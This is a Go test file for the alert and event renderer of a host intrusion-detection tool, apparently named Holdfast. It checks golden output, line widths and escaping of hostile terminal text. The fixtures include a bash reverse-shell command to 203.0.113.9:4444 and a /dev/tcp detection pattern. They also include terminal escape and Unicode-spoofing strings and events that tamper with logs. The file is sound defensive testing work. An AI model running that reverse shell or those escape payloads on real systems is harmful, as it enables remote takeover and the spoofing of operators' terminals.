package render_test

import (
	"flag"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/holdfast-security/holdfast/agent/feature"
	"github.com/holdfast-security/holdfast/cli/render"
	"github.com/holdfast-security/holdfast/event"
	"github.com/holdfast-security/holdfast/finding"
	"github.com/holdfast-security/holdfast/internal/termtext"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// golden compares text with a file under testdata.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s changed (-want +got), run with -update and review:\n%s", path, diff)
	}
}

var noon = time.Date(2026, 3, 1, 12, 0, 0, 250e6, time.UTC)

// process returns a process born of parent.
func process(parent *event.Process, pid uint32, exe, command string) *event.Process {
	p := &event.Process{PID: pid, Parent: parent, CommandLine: command, Executable: &event.File{Path: exe}}
	if parent != nil {
		p.PPID = parent.PID
	}
	return p
}

func shell() *event.Process {
	init := process(nil, 1, "/usr/lib/systemd/systemd", "/sbin/init")
	sshd := process(init, 812, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups")
	session := process(sshd, 4711, "/usr/sbin/sshd", "sshd: alice@pts/0")
	login := process(session, 4720, "/usr/bin/bash", "-bash")
	sh := process(login, 4801, "/usr/bin/bash", "bash -i")
	sh.User = event.User{UID: 0, Name: "root"}
	sh.Login = &event.User{UID: 1000, Name: "alice"}
	sh.Session, sh.Terminal, sh.Directory = 12, "pts0", "/tmp"
	sh.Entry = event.EntryPoint{Kind: event.EntrySSH, Address: "192.0.2.7", User: "alice"}
	sh.Container = &event.Container{ID: strings.Repeat("3f2a1b9c04d5", 5) + "abcd", Runtime: "docker", Name: "web-1", Image: "nginx:1.25"}
	return sh
}

func reverseShell() finding.Alert {
	return finding.Alert{
		ID: "0195a1b2-7c3d-7e4f-8a5b-6c7d8e9f0a1b", Type: "VM_ReverseShell", Title: "Potential reverse shell detected",
		Severity: finding.High, Time: noon, LastTime: noon, Count: 1,
		Story:   "alice started /usr/bin/bash with its input and output connected to 203.0.113.9:4444.",
		Steps:   []string{"Find out who opened 203.0.113.9:4444 and whether alice meant to.", "If not, kill process 4801, isolate the host and rotate every credential that was in reach of the session."},
		Tactics: []finding.Tactic{"execution"}, Methods: []finding.Technique{"T1059.004"},
		Rule: finding.Rule{ID: "6d1c8a52-0f5e-4c55-9a39-0e1b7b1f6b9c", Title: "Reverse shell"},
		Matches: []finding.Match{
			{Field: "StandardInput", Value: "socket", Condition: `is "socket"`, Selection: "selection"},
			{Field: "Image", Value: "/usr/bin/bash", Condition: `ends with "/bash"`, Selection: "shell"},
			{Field: "CommandLine", Value: "bash -c 'exec bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' --with-padding", Condition: `matches the pattern "/dev/(tcp|udp)/[^/]+/[0-9]+"`, Selection: "shell"},
		},
		Process: shell(),
	}
}

// hostile is an alert in which everything that the host controls attacks the
// terminal.
func hostile() finding.Alert {
	a := reverseShell()
	evil := "\x1b]0;owned\x07\x1b[2J\nFAKE  HIGH  line\r" + strings.Repeat("A", 1<<20) + "\u202etxt.exe\u200b\xff"
	p := process(process(nil, 1, "/sbin/init", evil), 66, "/tmp/"+evil, evil)
	p.User, p.Terminal, p.Directory = event.User{UID: 1, Name: evil}, evil, evil
	p.Entry = event.EntryPoint{Kind: event.EntryService, Unit: evil}
	p.Container = &event.Container{ID: "\x1b[31m" + evil, Name: evil}
	a.Process, a.Story, a.Title = p, evil+" did it", "Title "+evil
	a.Steps = []string{evil}
	a.ID, a.Rule.ID, a.Type = evil, evil, finding.AlertType(evil)
	a.Matches = []finding.Match{{Field: evil, Value: evil, Condition: evil}}
	return a
}

func deep() finding.Alert {
	a := reverseShell()
	var p *event.Process
	for i := range uint32(40) {
		p = process(p, 100+i, fmt.Sprintf("/usr/bin/step%d", i), fmt.Sprintf("step%d --of 40", i))
	}
	a.Process, a.Severity = p, finding.Medium
	return a
}

func bruteForce() finding.Alert {
	a := reverseShell()
	a.Type, a.Title, a.Severity, a.Process = "VM_SshBruteForceSuccess", "Successful SSH brute force attack", finding.High, nil
	a.Story = "192.0.2.99 logged on as bob after 30 failed attempts within 2 minutes."
	a.Count = 31
	a.Tactics, a.Methods = []finding.Tactic{"credential-access"}, []finding.Technique{"T1110.001"}
	logon := event.Event{
		Time: noon.Add(-time.Minute), Class: event.ClassAuthentication, Activity: event.AuthLogon, Status: event.StatusFailure,
		User: &event.User{UID: event.UnsetUID, Name: "bob"}, Logon: &event.Logon{Service: "sshd", Address: netip.MustParseAddr("192.0.2.99")},
	}
	last := logon
	last.Time, last.Status = noon, event.StatusSuccess
	a.Evidence = []event.Event{logon, logon, logon, last}
	for i := range 3 {
		a.Evidence[i].Time = logon.Time.Add(time.Duration(i) * time.Second)
		a.Matches = append(a.Matches, finding.Match{Field: "Status", Value: "failure", Condition: `is "failure"`, Event: i})
	}
	a.Matches = append(a.Matches[3:],
		finding.Match{Field: "Status", Value: "success", Condition: `is "success"`, Event: 3},
		finding.Match{Field: "SourceIp", Value: "192.0.2.99", Condition: "is present", Event: 3},
	)
	return a
}

func alerts() map[string]finding.Alert {
	orphan := reverseShell()
	orphan.Process = process(nil, 4801, "/usr/bin/bash", "bash -i")
	orphan.Process.PPID, orphan.Severity = 4720, finding.Low
	return map[string]finding.Alert{
		"shell": reverseShell(), "hostile": hostile(), "deep": deep(), "bruteforce": bruteForce(), "orphan": orphan,
		"bare": {Type: "VM_Bare", Title: "Only a title"},
	}
}

func TestAlertLooksAsReviewed(t *testing.T) {
	for name, a := range alerts() {
		for _, style := range []render.Style{{Width: 80}, {Width: 120}, {Width: 80, Color: true}} {
			file := fmt.Sprintf("alert-%s-%d", name, style.Width)
			if style.Color {
				file += "-color"
			}
			t.Run(file, func(t *testing.T) { golden(t, file, render.Alert(a, style)) })
		}
	}
}

func TestAlertKeepsTheOrderOfItsParts(t *testing.T) {
	out := render.Alert(reverseShell(), render.Style{Width: 80})
	at := 0
	for _, part := range []string{
		"2026-03-01 12:00:00", "HIGH", "Potential reverse shell", "alice started", "logged in as alice", "audit session 12",
		"ssh from 192.0.2.7", "container 3f2a1b9c04d5", "systemd(1)", "bash(4801)", "StandardInput", "1. ", "VM_ReverseShell",
	} {
		i := strings.Index(out[at:], part)
		if i < 0 {
			t.Fatalf("%q does not follow in:\n%s", part, out)
		}
		at += i
	}
}

var colors = regexp.MustCompile("\x1b\\[[0-9;]*m")

func TestEveryRendererStaysInItsColumns(t *testing.T) {
	for _, width := range []int{0, 40, 80, 120, 1000} {
		style := render.Style{Width: width, Color: true}
		for name, out := range everything(style) {
			limit := min(max(width, 40), 140)
			for line := range strings.SplitSeq(colors.ReplaceAllString(out, ""), "\n") {
				if w := termtext.Width(line); w > limit {
					t.Errorf("%s at %d columns: a line takes %d: %q", name, width, w, line)
				}
				if safe := termtext.Escape(line); safe != line {
					t.Errorf("%s at %d columns: unescaped text in %q", name, width, line)
				}
			}
		}
	}
}

// everything returns the output of all renderers for ordinary and hostile
// values.
func everything(style render.Style) map[string]string {
	all := make(map[string]string)
	for name, a := range alerts() {
		all["alert "+name] = render.Alert(a, style)
		all["alert line "+name] = render.AlertLine(a, style)
		all["lineage "+name] = render.Lineage(a.Process, style)
	}
	for i, e := range events() {
		all[fmt.Sprintf("event %d", i)] = render.EventLine(&e, style)
	}
	all["header"] = render.EventHeader(style)
	all["table"] = render.Table([]string{"NAME", "RESULT", "REASON"}, [][]string{
		{"reverse-shell", "pass", ""}, {hostile().Title, "fail", hostile().Story},
	}, style)
	for name, text := range fleetTexts(style) {
		all[name] = text
	}
	return all
}

func events() []event.Event {
	evil := hostile().Process
	return []event.Event{
		{Time: noon, Class: event.ClassProcessActivity, Activity: event.ProcessLaunch, Process: shell()},
		{Time: noon, Class: event.ClassProcessActivity, Activity: event.ProcessTerminate, Process: shell(), Exit: &event.Exit{Signal: "SIGKILL"}},
		{Time: noon, Class: event.ClassProcessActivity, Activity: event.ProcessOpen, Process: shell(), Target: shell().Parent, Kernel: &event.Kernel{Syscall: "ptrace", Request: "attach"}},
		{Time: noon, Class: event.ClassFileActivity, Activity: event.FileRename, Process: shell(), File: &event.File{Path: "/var/log/auth.log", NewPath: "/tmp/x"}},
		{
			Time: noon, Class: event.ClassAuthentication, Activity: event.AuthLogon, Status: event.StatusFailure, Count: 12,
			User: &event.User{UID: event.UnsetUID, Name: "bob"}, Logon: &event.Logon{Service: "sshd", Address: netip.MustParseAddr("192.0.2.99")},
		},
		{
			Time: noon, Class: event.ClassNetworkActivity, Activity: event.NetworkOpen, Process: shell(),
			Network: &event.Network{Protocol: "tcp", Local: netip.MustParseAddrPort("10.0.0.1:40000"), Remote: netip.MustParseAddrPort("203.0.113.9:4444")},
		},
		{Time: noon, Class: event.ClassGroupManagement, Activity: event.GroupAddUser, User: &event.User{UID: 1000, Name: "alice"}, Group: &event.Group{Name: "sudo"}},
		{Time: noon, Class: event.ClassDeviceConfigChange, Activity: event.ConfigClock, Process: shell(), Kernel: &event.Kernel{Syscall: "clock_settime", Adjusted: time.Hour}},
		{Time: noon, Class: event.ClassEventLog, Activity: event.LogConfig, Message: "audit_enabled=0\nold=1"},
		{Time: noon, Class: event.ClassProcessActivity, Activity: event.ProcessLaunch, Process: evil, File: &event.File{Path: evil.Directory}},
		{},
	}
}

func TestEventLinesLookAsReviewed(t *testing.T) {
	for _, width := range []int{80, 120} {
		style := render.Style{Width: width}
		out := render.EventHeader(style)
		for _, e := range events() {
			out += render.EventLine(&e, style)
		}
		golden(t, fmt.Sprintf("events-%d", width), out)
	}
}

func TestTableLooksAsReviewed(t *testing.T) {
	rows := [][]string{
		{"reverse-shell", "VM_ReverseShell", "pass", "", "0.21"},
		{"web-shell", "VM_WebShell", "fail", "no alert within 10 s; the audit feature is degraded because the kernel's rules are immutable", "-"},
	}
	golden(t, "table-80", render.Table([]string{"SCENARIO", "ALERT TYPE", "RESULT", "REASON", "SECONDS"}, rows, render.Style{Width: 80}))
}

func TestConditionLooksAsReviewed(t *testing.T) {
	list := []feature.Status{
		{Name: "audit", State: feature.Degraded, Detail: "beside auditd (pid 812)", Warnings: []feature.Warning{
			{Code: "audit-immutable", Text: "The kernel's audit rules are locked (-e 2), so file changes are not watched. Add Holdfast's rules to /etc/audit/rules.d and reboot."},
		}},
		{Name: "perf", State: feature.Running},
		{Name: "procfs", State: feature.Off, Detail: "stands in for audit, perf"},
	}
	out := render.Features(list, render.Style{Width: 80}) + "\n" + render.Ledger([]render.Entry{
		{Value: 1234567, What: "events emitted by features"}, {Value: 12, What: "audit.kernel_lost", Bad: true}, {What: "audit.queue_full", Bad: true},
	}, render.Style{Width: 80}) + "\n" + render.AlertCounts(map[finding.AlertType]int{"VM_A": 2, "VM_B": 12, "VM_C": 2},
		map[finding.AlertType]uint64{"VM_A": 2, "VM_B": 3000, "VM_C": 2}, render.Style{Width: 80})
	golden(t, "condition-80", out)
}

func TestDuration(t *testing.T) {
	for d, want := range map[time.Duration]string{
		-1: "0.0s", 300 * time.Millisecond: "0.3s", 45 * time.Second: "45s", 90 * time.Second: "1m30s", 2*time.Hour + 3*time.Minute + 4*time.Second: "2h3m",
	} {
		if got := render.Duration(d); got != want {
			t.Errorf("%v: got %q, want %q", d, got, want)
		}
	}
}

func TestNumber(t *testing.T) {
	for n, want := range map[uint64]string{0: "0", 999: "999", 1000: "1,000", 1234567: "1,234,567"} {
		if got := render.Number(n); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}
